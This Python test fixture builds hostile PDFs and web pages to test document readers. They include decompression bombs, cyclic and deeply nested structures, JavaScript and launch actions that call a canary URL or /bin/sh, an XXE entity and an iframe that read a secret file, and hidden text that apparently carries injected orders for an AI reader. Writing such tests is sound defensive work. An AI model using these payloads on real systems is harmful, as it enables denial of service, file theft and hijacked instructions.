"""Hostile PDFs and web pages: cycles, bombs, scripts, references to elsewhere."""

import zlib
from collections.abc import Sequence

from reportlab.lib.pdfencrypt import StandardEncryption

from tests.orchestration.readers.documents import make_pdf
from tests.orchestration.readers.hostile.canary import Canary
from tests.orchestration.readers.hostile.markup import HIDDEN

MEGABYTE = 1024 * 1024
HELLO = "BT /F1 12 Tf 72 720 Td (Readable.) Tj ET"


def write_pdf(*objects: str | bytes, trailer: str = "") -> bytes:
    """Give a PDF of these objects, numbered from 1; the first one is the catalogue."""
    content = b"%PDF-1.7\n"
    offsets = []
    for number, said in enumerate(objects, start=1):
        offsets.append(len(content))
        body = said if isinstance(said, bytes) else said.encode()
        content += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return content + f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer}>>\nstartxref\n{start}\n%%EOF".encode()


def stream(content: bytes, extra: str = "") -> bytes:
    return f"<< /Length {len(content)} {extra}>>\nstream\n".encode() + content + b"\nendstream"


def one_page(
    said: bytes = HELLO.encode(),
    *,
    catalogue: str = "",
    page: str = "",
    filters: str = "",
    more: Sequence[bytes | str] = (),
) -> bytes:
    """Give a PDF of one page; further objects begin with number 6."""
    return write_pdf(
        f"<< /Type /Catalog /Pages 2 0 R {catalogue}>>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> "
        f"/XObject << /X 6 0 R >> >> {page}>>",
        stream(said, filters),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    )  # fmt: skip


def many_pages(count: int) -> bytes:
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 3 0 R "
    page += "/Resources << /Font << /F1 4 0 R >> >> >>"
    kids = " ".join(f"{5 + number} 0 R" for number in range(count))
    return write_pdf(
        "<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {count} >>",
        stream(HELLO.encode()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *[page] * count,
    )


def squeeze(content: bytes, times: int) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return content


def list_pdfs(canary: Canary) -> dict[str, tuple[str, bytes]]:
    url = canary.url
    bomb = squeeze(b"(x) Tj " * (4 * MEGABYTE), 1)
    good = make_pdf(["Readable."] * 3)
    return {
        "truncated PDF": ("a.pdf", good[: len(good) // 2]),
        "a PDF of its head only": ("a.pdf", b"%PDF-1.7\n%%EOF"),
        "a PDF with a password": ("a.pdf", make_pdf(["Secret."], encrypt=StandardEncryption("maya"))),
        "pages in a circle": (
            "a.pdf",
            write_pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2000000 >>"),
        ),
        "pages below one another": (
            "a.pdf",
            write_pdf(
                "<< /Type /Catalog /Pages 2 0 R >>",
                *(f"<< /Type /Pages /Kids [{n + 3} 0 R] /Count 1 /Parent {n + 1} 0 R >>" for n in range(20_000)),
            ),
        ),
        "outlines in a circle": (
            "a.pdf",
            one_page(
                catalogue="/Outlines 6 0 R ",
                more=["<< /First 7 0 R /Last 7 0 R >>", "<< /Title (x) /Next 7 0 R /First 6 0 R /Parent 6 0 R >>"],
            ),
        ),
        "tables of objects in a circle": ("a.pdf", write_pdf("<< /Type /Catalog /Pages 2 0 R >>", trailer="/Prev 9 ")),
        "a form that draws itself": (
            "a.pdf",
            one_page(b"/X Do", more=[stream(b"/X Do /X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
                                            "/Resources << /XObject << /X 6 0 R >> >> ")]),
        ),
        "ten thousand pages": ("a.pdf", many_pages(10_000)),
        "two million pages, it says": ("a.pdf", one_page().replace(b"/Count 1 ", b"/Count 2000000 ")),
        "a bomb of drawing": ("a.pdf", one_page(bomb, filters="/Filter /FlateDecode ")),
        "a bomb packed twice": (
            "a.pdf",
            one_page(squeeze(b" " * (100 * MEGABYTE), 2), filters="/Filter [/FlateDecode /FlateDecode] "),
        ),
        "deep brackets": ("a.pdf", one_page(catalogue="/X " + "[" * 100_000 + "]" * 100_000)),
        "deep brackets on a page": ("a.pdf", one_page(b"[" * 1_000_000)),
        "scripts in a PDF": (
            "a.pdf",
            one_page(
                catalogue="/OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >> ",
                more=[f"<< /S /JavaScript /JS (app.launchURL\\('{url}'\\); {HIDDEN}) >>"],
            ),
        ),
        "actions in a PDF": (
            "a.pdf",
            one_page(
                catalogue="/OpenAction << /S /Launch /F (/bin/sh) >> ",
                page=f"/AA << /O << /S /URI /URI ({url}) >> /C << /S /SubmitForm /F ({url}) >> >> ",
            ),
        ),
        "another PDF elsewhere": (
            "a.pdf",
            one_page(b"/X Do " + HELLO.encode(), more=[stream(b"", f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
                     f"/Ref << /F << /FS /URL /F ({url}) >> /Page 0 >> /F << /FS /URL /F ({url}) >> ")]),
        ),
        "a stream in a file": (
            "a.pdf",
            one_page(filters=f"/F ({canary.secret}) ", page=f"/Metadata << /F ({canary.secret}) >> "),
        ),
        "embedded files": (
            "a.pdf",
            one_page(
                catalogue="/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> ",
                more=["<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>", stream(HIDDEN.encode())],
            ),
        ),
        "a picture of a gigantic size": (
            "a.pdf",
            one_page(b"/X Do " + HELLO.encode(), more=[stream(b"x", "/Type /XObject /Subtype /Image /Width 2000000000 "
                     "/Height 2000000000 /BitsPerComponent 8 /ColorSpace /DeviceRGB ")]),
        ),
        "a page of a gigantic size": ("a.pdf", one_page(page="/MediaBox [0 0 1e38 1e38] /UserUnit 1e30 ")),
    }  # fmt: skip


def list_webs(canary: Canary) -> dict[str, tuple[str, bytes]]:
    url = canary.url
    files = {
        "scripts in a page": f"<p>Readable.</p><script>fetch('{url}'); '{HIDDEN}'</script><img src=x onerror=alert(1)>",
        "references of a page": f"""<link rel=stylesheet href="{url}/s.css"><style>@import url({url}/i.css)</style>
          <base href="{url}"><img src="{url}/p.png"><iframe src="{url}"></iframe><object data="{url}"></object>
          <meta http-equiv=refresh content="0;url={url}"><script src="{url}/x.js"></script><p>Readable.</p>""",
        "a file in a page": f'<p>Readable.</p><iframe src="{canary.secret.as_uri()}"></iframe>',
        "hidden orders in a page": f"<style>.h {{display:none}}</style><p>Readable.</p><p class=h>{HIDDEN}</p>"
        f"<p style='visibility: hidden'>{HIDDEN}</p><!-- {HIDDEN} --><template>{HIDDEN}</template>",
        "deep elements of a page": "<div>" * 200_000 + "Readable.",
        "deep inline elements of a page": "<b>" * 50_000 + "Readable.",
        "tables in tables of a page": "<table><tr><td>" * 3_000 + "Readable.",
        "ten thousand attributes": f"<p {' '.join(f'a{n}=x' for n in range(10_000))}>Readable.</p>",
        "elements without end": "<p>x" * 200_000,
        "rules without end": "<style>"
        + ".a{display:none}" * 200_000
        + "</style>"
        + "<p class=b>Readable.</p>" * 20_000,
        "rules that are costly": "<style>"
        + "a b c d e f g h *{display:none}" * 300
        + "</style>"
        + "<a><b>" * 20_000
        + "x",
        "broken entities of a page": "<p>Readable. &#xD800; &#0; &#x110000; &#8238;abc &lt;script&gt;</p>",
        "entities in a page": f'<!DOCTYPE x [<!ENTITY x SYSTEM "{canary.secret.as_uri()}">]><p>Readable. &x;</p>',
        "a page without end": "<p>" + "word " * 1_000_000,
    }
    return {name: ("a.html", content.encode()) for name, content in files.items()}
